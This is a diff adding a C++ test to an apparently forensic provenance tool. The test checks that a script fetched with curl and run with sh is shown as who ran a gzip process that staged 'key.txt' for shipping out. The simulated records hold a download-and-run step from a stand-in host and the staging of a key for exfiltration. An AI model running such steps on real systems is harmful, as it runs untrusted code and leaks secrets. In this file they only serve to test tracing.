@@ -140,6 +140,42 @@ TEST(Programs, TheScriptThatStartedAWriterIsListedUnderIt) {
   EXPECT_NE(r.text.find("not listed (--all lists it)"), std::string::npos) << r.text;
 }
 
+// A fetched script (`sh drop.sh`) runs gzip, which stages the key in /tmp; another
+// process ships the staged file. In the staged file's answer gzip is no writer of the file
+// asked about, yet who ran it is shown, with the script and its download: the record saw
+// the script made. A script that was there before the record is not listed for every
+// command it ran (the answer stays short); --all lists it.
+TEST(Programs, AFetchedScriptIsShownAsWhoRanAnyProcessInTheAnswer) {
+  for (const bool fetched : {true, false}) {
+    SCOPED_TRACE(fetched ? "fetched" : "there before the record");
+    TempDir dir;
+    World w(dir.path() + "/prov.db");
+    auto sh = w.setup({{10, "key.txt"}});
+    if (fetched)
+      made_by(w, sh, 150, {"curl", "-o", kScript, "http://203.0.113.5/s"}, kScript, 7001);
+    World::Proc script = w.run(sh, 200, {"sh", kScript});
+    w.read_outside(script, kScript, 7001);
+    World::Proc gz = w.run(script, 201, {"gzip", "-c", path("key.txt")});
+    w.read(201, 10);
+    w.write_outside(gz, "/lineage-test-nowhere/staged", 7003);
+    w.close_outside(gz, 7003, /*last_write=*/true);
+    w.exit(gz);
+    w.exit(script);
+    w.cat_outside(sh, 300, "/lineage-test-nowhere/staged", 7003, 12, "out");
+    w.commit();
+    auto r = why(*w.db, path("out"));
+    ASSERT_TRUE(r.found) << r.message;
+    EXPECT_TRUE(has(edges(r.graph), "used(gzip -c " + path("key.txt") + ", key.txt)")) << r.text;
+    const std::string ran = std::string("started by sh ") + kScript;
+    EXPECT_EQ(r.text.find(ran) != std::string::npos, fetched) << r.text;
+    EXPECT_EQ(r.text.find(std::string("program ") + kScript) != std::string::npos, fetched)
+        << r.text;
+    EXPECT_EQ(r.text.find("curl -o") != std::string::npos, fetched) << r.text;
+    auto all = why(*w.db, path("out"), 0, /*all=*/true);
+    EXPECT_NE(all.text.find(ran), std::string::npos) << all.text;
+  }
+}
+
 // `make` runs cc: the Makefile is make's program (a build recipe someone changed is where
 // a tampered build came from), listed under make with who wrote it.
 TEST(Programs, TheMakefileIsMakesProgram) {
